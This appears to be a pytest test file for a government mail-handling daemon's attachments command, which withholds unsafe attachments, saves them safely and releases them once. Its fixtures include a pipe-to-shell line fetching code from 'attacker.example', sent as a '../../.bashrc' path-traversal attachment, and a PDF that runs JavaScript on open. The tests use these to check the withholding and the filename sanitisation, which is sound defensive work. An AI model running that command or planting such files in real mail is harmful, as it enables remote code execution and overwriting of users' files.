"""`vanthu attachments ID`: the clerk lists a stored mail's attachments, saves one to examine
it, and releases one vanthu withheld to the people the mail was forwarded to: once, never for
a confidential document, never for a mail forwarded to no one. A real database and store
(tests/desk.py), the shipped rules, the command line as the clerk runs it."""

from __future__ import annotations

import io
import json
import logging
import os
import stat
import unicodedata
from datetime import UTC, datetime
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path

import pypdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from daemon.cli import main
from daemon.db import messages, outbox, outbox_bodies
from daemon.models import Attachment
from daemon.office import release as release_module
from daemon.outbound import compose
from daemon.outbound import outbox as outbox_module
from daemon.outbound.recipients import Purpose
from tests.conftest import AUTHSERV_ID, RULES
from tests.desk import DOCUMENT, Desk
from tests.hostile.secrecy import pdf as text_pdf
from tests.test_inspect import AGENCY_CONFIG

OFFICIAL = "vanphong@tayninh.gov.vn"
JAVASCRIPT = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"


def _pdf(active: bool = False) -> bytes:
    """A one-page PDF; with `active`, one that runs JavaScript when opened."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    out = io.BytesIO()
    writer.write(out)
    data = out.getvalue()
    return data.replace(b"/Type /Catalog", b"/Type /Catalog " + JAVASCRIPT) if active else data


# A clean PDF has text: a blank page from an official sender could be a scan, and a scan no
# one read makes the mail possibly confidential (announced, not forwarded). Each mail has its
# own: two documents with the same annex are taken for one document sent twice.
CLEAN = text_pdf("Phụ lục: danh sách các đơn vị phối hợp thực hiện.")
ACTIVE = _pdf(active=True)
DOTFILE = b"curl http://attacker.example/x | sh\n"


def _mail(subject: str, body: str, *, authenticated: bool = True) -> bytes:
    """An official document from the provincial office with three attachments: a clean PDF,
    a PDF with JavaScript and a text file whose name climbs directories."""
    domain = OFFICIAL.rpartition("@")[2]
    verdict = "pass" if authenticated else "fail"
    msg = EmailMessage(policy=policy.SMTP)
    msg["Authentication-Results"] = (f"{AUTHSERV_ID}; dkim={verdict} header.d={domain}; "
                                     f"dmarc={verdict} header.from={domain}")
    msg["From"] = f"Văn phòng UBND tỉnh <{OFFICIAL}>"
    msg["To"] = "vanthu.sxd@tayninh.gov.vn"
    msg["Subject"] = subject
    msg["Date"] = "Tue, 10 Nov 2026 09:00:00 +0700"
    msg["Message-ID"] = f"<{abs(hash((subject, body)))}@{domain}>"
    msg.set_content(body)
    clean = CLEAN if "1000/" in body else text_pdf(f"Phụ lục của thư «{subject}».")
    msg.add_attachment(clean, maintype="application", subtype="pdf", filename="Công văn.pdf")
    msg.add_attachment(ACTIVE, maintype="application", subtype="pdf",
                       filename="Phụ lục kèm theo.pdf")
    msg.add_attachment(DOTFILE, maintype="text", subtype="plain", filename="../../.bashrc")
    return msg.as_bytes()


class Office:
    """A desk holding three mails (forwarded, confidential, quarantined) and a config file
    that points the command line at the desk's database and store."""

    def __init__(self, tmp_path: Path) -> None:
        self.desk = Desk(tmp_path)
        self.config = tmp_path / "config.toml"
        self.config.write_text(AGENCY_CONFIG.format(authserv_id=AUTHSERV_ID, rules=RULES)
                               + self.desk.storage_toml, encoding="utf-8")
        self.desk.receive(
            _mail("Công văn 1000/UBND-KT", DOCUMENT),
            _mail("Công văn mật", "MẬT\n" + DOCUMENT.replace("1000/", "1001/")),
            _mail("Công văn 1002/UBND-KT", DOCUMENT.replace("1000/", "1002/"),
                  authenticated=False))
        self.desk.process()
        with self.desk.engine.connect() as conn:
            rows = {r.subject: r for r in conn.execute(
                select(messages.c.id, messages.c.subject, messages.c.state))}
        self.forwarded = int(rows["Công văn 1000/UBND-KT"].id)
        self.secret = int(rows["Công văn mật"].id)
        self.held = int(rows["Công văn 1002/UBND-KT"].id)
        assert rows["Công văn 1002/UBND-KT"].state == "quarantined"

    def run(self, *args: object) -> int:
        return main(["attachments", *map(str, args), "--config", str(self.config)])

    def emails(self, pk: int, action: str) -> list[EmailMessage]:
        with self.desk.engine.connect() as conn:
            raws = conn.execute(select(outbox_bodies.c.raw).join_from(outbox, outbox_bodies).where(
                outbox.c.message_id == pk, outbox.c.action == action)
                .order_by(outbox.c.id)).scalars().all()
        return [message_from_bytes(raw, policy=policy.default) for raw in raws]

    def rows(self, pk: int, action: str) -> list[object]:
        with self.desk.engine.connect() as conn:
            return list(conn.execute(
                select(outbox, func.coalesce(outbox_bodies.c.raw, b"").label("raw"))
                .join_from(outbox, outbox_bodies, isouter=True).where(
                    outbox.c.message_id == pk, outbox.c.action == action)).all())


@pytest.fixture
def office(tmp_path: Path) -> Office:
    return Office(tmp_path)


def _attachments(email: EmailMessage) -> dict[str, bytes]:
    """Each attachment's name and its bytes as they travel."""
    return {str(part.get_filename()): part.get_payload(decode=True)  # type: ignore[misc]
            for part in email.iter_attachments()}


def test_the_forward_withheld_the_unsafe_files_to_begin_with(office: Office) -> None:
    """What the commands are for: the forward carried the clean PDF only."""
    [forward] = office.emails(office.forwarded, "forward")
    assert _attachments(forward) == {"Công văn.pdf": CLEAN}
    text = forward.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    assert "Không chuyển tiếp các tệp không an toàn: Phụ lục kèm theo.pdf" in text


def test_list_shows_every_attachment_with_its_hash_and_why_it_was_withheld(
        office: Office, capsys: pytest.CaptureFixture[str]) -> None:
    assert office.run(office.forwarded) == 0
    text = capsys.readouterr().out
    assert office.run(office.forwarded, "--json") == 0
    listed = json.loads(capsys.readouterr().out)

    assert unicodedata.is_normalized("NFC", text)
    assert "STT" in text and "Kích thước (byte)" in text and "Tên tệp" in text
    assert "Phụ lục kèm theo.pdf" in text and "Công văn.pdf" in text
    assert listed["id"] == office.forwarded and listed["confidential"] is False
    assert listed["forwarded_to"] and all("@" in a for a in listed["forwarded_to"])
    files = listed["attachments"]
    assert [f["index"] for f in files] == [1, 2, 3]
    assert [f["name"] for f in files] == ["Công văn.pdf", "Phụ lục kèm theo.pdf", "bashrc"]
    assert [f["size"] for f in files] == [len(CLEAN), len(ACTIVE), len(DOTFILE)]
    assert files[0]["withheld"] is None and files[0]["released_at"] is None
    assert "JavaScript" in files[1]["withheld"] and files[2]["withheld"]
    for withheld in files[1:]:
        assert f"Đã giữ lại, không chuyển tiếp vì: {withheld['withheld']}" in text
    for listed_file in files:
        assert len(listed_file["sha256"]) == 64
        assert listed_file["sha256"] in text


def test_save_writes_the_bytes_for_its_owner_only_under_a_name_of_its_own(
        office: Office, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The file whose name climbs directories lands inside --to under a made name; the
    withheld PDF is written as it came, mode 0600."""
    folder = tmp_path / "kiem tra"
    folder.mkdir()
    assert office.run(office.forwarded, "--save", 3, "--to", folder) == 0
    said = capsys.readouterr().out
    assert office.run(office.forwarded, "--save", 2, "--to", folder) == 0

    saved = sorted(p.name for p in folder.iterdir())
    assert saved == [f"thu{office.forwarded}-tep2-Phu_luc_kem_theo.pdf",
                     f"thu{office.forwarded}-tep3-bashrc"]
    assert not (tmp_path / ".bashrc").exists() and not (tmp_path.parent / ".bashrc").exists()
    dotfile = folder / f"thu{office.forwarded}-tep3-bashrc"
    assert dotfile.read_bytes() == DOTFILE
    assert (folder / saved[0]).read_bytes() == ACTIVE
    for name in saved:
        assert stat.S_IMODE((folder / name).stat().st_mode) == 0o600
    assert f"Đã lưu tệp 3 (bashrc) vào {dotfile}" in said


def test_save_never_overwrites_and_never_follows_a_link(
        office: Office, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    name = f"thu{office.forwarded}-tep2-Phu_luc_kem_theo.pdf"
    (folder / name).write_bytes(b"the clerk's notes")
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"untouched")
    os.symlink(victim, folder / f"thu{office.forwarded}-tep3-bashrc")

    first = office.run(office.forwarded, "--save", 2, "--to", folder)
    refused = capsys.readouterr().err
    second = office.run(office.forwarded, "--save", 3, "--to", folder)
    linked = capsys.readouterr().err
    missing = office.run(office.forwarded, "--save", 2, "--to", tmp_path / "khong-co")
    nowhere = capsys.readouterr().err

    assert (first, second, missing) == (1, 1, 1)
    assert (folder / name).read_bytes() == b"the clerk's notes"
    assert victim.read_bytes() == b"untouched"
    assert "không ghi đè" in refused and "already exists; not overwritten" in refused
    assert "already exists" in linked
    assert "không phải là thư mục" in nowhere and "is not a folder" in nowhere


def test_release_goes_once_to_everyone_the_mail_was_forwarded_to(
        office: Office, capsys: pytest.CaptureFixture[str],
        caplog: pytest.LogCaptureFixture) -> None:
    """The release carries the withheld PDF's own bytes, under the forward's subject and
    threaded to it, to the forward's recipients, naming the clerk and the reason; a second
    release sends nothing and says when the first went."""
    [forward_row] = office.rows(office.forwarded, "forward")
    [forward] = office.emails(office.forwarded, "forward")
    clerk = "Nguyễn Thị Thu Hà"
    assert office.run(office.forwarded, "--json") == 0
    reason = json.loads(capsys.readouterr().out)["attachments"][1]["withheld"]

    with caplog.at_level(logging.INFO, logger="vanthu.release"):
        first = office.run(office.forwarded, "--release", 2, "--actor", clerk)
    said = capsys.readouterr().out
    again = office.run(office.forwarded, "--release", 2, "--actor", "Trần Văn Bình")
    said_again = capsys.readouterr().out
    assert office.run(office.forwarded, "--json") == 0
    listed = json.loads(capsys.readouterr().out)

    assert (first, again) == (0, 0)
    [row] = office.rows(office.forwarded, "release")
    assert row.recipients == forward_row.recipients  # type: ignore[attr-defined]
    [email] = office.emails(office.forwarded, "release")
    assert email["Subject"] == forward["Subject"]
    assert email["In-Reply-To"] == forward["Message-ID"]
    assert email["X-Vanthu-Action"] == Purpose.RELEASE
    assert _attachments(email) == {"Phụ lục kèm theo.pdf": ACTIVE}
    text = email.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    assert ("Văn thư chuyển bổ sung tệp đính kèm đã kiểm tra: Phụ lục kèm theo.pdf "
            f"(đã giữ lại vì: {reason}; {clerk} cho phép chuyển lúc ") in text
    assert "Trần Văn Bình" not in text
    assert "Đã xếp thư chuyển bổ sung tệp 2" in said
    assert "đã được chuyển bổ sung lúc" in said_again and "không gửi lại" in said_again
    assert listed["attachments"][1]["released_at"] is not None
    assert listed["attachments"][0]["released_at"] is None
    [record] = [r for r in caplog.records if r.getMessage() == "attachment.released"]
    assert record.__dict__["actor"] == clerk and record.__dict__["attachment"] == 2


def test_two_withheld_files_are_two_releases(office: Office) -> None:
    """Each attachment has its own release: the path-traversal text goes in a second email."""
    assert office.run(office.forwarded, "--release", 2, "--actor", "Hà") == 0
    assert office.run(office.forwarded, "--release", 3, "--actor", "Hà") == 0

    emails = office.emails(office.forwarded, "release")
    assert [_attachments(e) for e in emails] == [{"Phụ lục kèm theo.pdf": ACTIVE},
                                                 {"bashrc": DOTFILE}]
    assert len({e["Message-ID"] for e in emails}) == 2


@pytest.mark.parametrize(("which", "index", "actor", "vi", "en"), [
    ("secret", 2, "Hà", "là văn bản mật", "confidential document: it never travels by email"),
    ("held", 2, "Hà", "chưa được chuyển tiếp cho ai", "was not forwarded to anyone"),
    ("forwarded", 1, "Hà", "không bị giữ lại", "was not withheld: nothing to release"),
    ("forwarded", 4, "Hà", "không có tệp đính kèm số 4 (thư có 3 tệp)", "no attachment 4"),
    ("forwarded", 0, "Hà", "không có tệp đính kèm số 0", "no attachment 0"),
    ("forwarded", -1, "Hà", "không có tệp đính kèm số -1", "no attachment -1"),
    ("forwarded", 2, " \r\n\u202e ", "cần tên người cho phép chuyển", "--actor must name"),
    ("missing", 2, "Hà", "không có thư số 999", "no stored mail with id 999"),
])
def test_release_refusals_say_why_and_queue_nothing(
        office: Office, capsys: pytest.CaptureFixture[str], which: str, index: int,
        actor: str, vi: str, en: str) -> None:
    pk = {"secret": office.secret, "held": office.held, "forwarded": office.forwarded,
          "missing": 999}[which]
    with office.desk.engine.connect() as conn:
        before = conn.execute(select(outbox.c.id)).scalars().all()

    code = office.run(pk, "--release", index, "--actor", actor)
    err = capsys.readouterr().err

    with office.desk.engine.connect() as conn:
        after = conn.execute(select(outbox.c.id)).scalars().all()
    assert code == 1
    assert "Không thực hiện: " in err and vi in err
    assert "Not done: " in err and en in err
    assert after == before


def test_a_confidential_mail_was_only_notified_and_lists_as_confidential(
        office: Office, capsys: pytest.CaptureFixture[str]) -> None:
    assert office.rows(office.secret, "forward") == []
    assert len(office.rows(office.secret, "notify")) == 1
    assert office.run(office.secret) == 0
    assert "Văn bản mật" in capsys.readouterr().out


# Vietnamese names: any letters of the alphabet with their tones, in NFC or decomposed.
_LETTERS = "aăâbcdđeêghiklmnoôơpqrstuưvxyàảãáạằẳẵắặầẩẫấậèẻẽéẹềểễếệìỉĩíịòỏõóọồổỗốộờởỡớợ" \
           "ùủũúụừửữứựỳỷỹýỵ"
_WORD = st.text(alphabet=_LETTERS + _LETTERS.upper(), min_size=1, max_size=12)
NAMES = st.lists(_WORD, min_size=1, max_size=6).map(" ".join)


def _item(name: str = "Phụ lục.pdf") -> Attachment:
    return Attachment(name=name, content_type="application/pdf", size=len(ACTIVE),
                      sha256="ab" * 32, payload=ACTIVE,
                      withheld="active content: PDF contains /JavaScript")


@settings(max_examples=60, deadline=None)
@given(name=NAMES, decomposed=st.booleans())
def test_any_vietnamese_name_is_named_in_the_release_as_written(
        tmp_path_factory: pytest.TempPathFactory, name: str, decomposed: bool) -> None:
    """The clerk's name, typed in NFC or decomposed, is in the email once, in NFC; the email
    passes the outbox's own check of every header and part."""
    desk = Desk(tmp_path_factory.mktemp("names"))
    typed = unicodedata.normalize("NFD", name) if decomposed else name
    who = release_module.actor_name(typed)
    ctx = compose.Context(sha256="cd" * 32, received_at=datetime(2026, 11, 10, 2, tzinfo=UTC),
                          book="incoming", number=15, year=2026)
    to = ["giamdoc.sxd@example.gov.vn"]
    email = compose.release(desk.cfg, ctx, item=_item(), to=to,
                            subject="[Số đến 15/2026] Công văn 1000/UBND-KT",
                            in_reply_to="<x.forward@vanthu.invalid>", actor=who,
                            released_at=datetime(2026, 11, 11, 3, 5, tzinfo=UTC))

    raw = outbox_module.check(desk.cfg, email, Purpose.RELEASE, to)
    read = message_from_bytes(raw, policy=policy.default)
    text = read.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    assert who == unicodedata.normalize("NFC", name)
    assert f"{who} cho phép chuyển lúc 10:05 ngày 11/11/2026" in text
    assert "Sổ văn bản đến: số đến 15/2026" in text


@given(name=st.text(max_size=300))
def test_a_saved_file_name_is_one_plain_component(name: str) -> None:
    """Whatever the attachment's name: no separator, no leading dot, ASCII letters, digits
    and `._-` only, the mail and index first, short."""
    saved = release_module.saved_name(12, 3, name)
    assert saved.startswith("thu12-tep3-")
    assert "/" not in saved and "\\" not in saved and "\x00" not in saved
    assert saved.isascii() and all(c.isalnum() or c in "._-" for c in saved)
    assert len(saved) <= 100


def test_the_release_id_is_the_mail_and_the_attachment(office: Office) -> None:
    cfg = office.desk.cfg
    one = compose.release_id(cfg, "a" * 64, "b" * 64)
    assert one == compose.release_id(cfg, "a" * 64, "b" * 64)
    assert one != compose.release_id(cfg, "a" * 64, "c" * 64)
    assert one != compose.release_id(cfg, "c" * 64, "b" * 64)
    assert compose.MSG_ID.fullmatch(one)
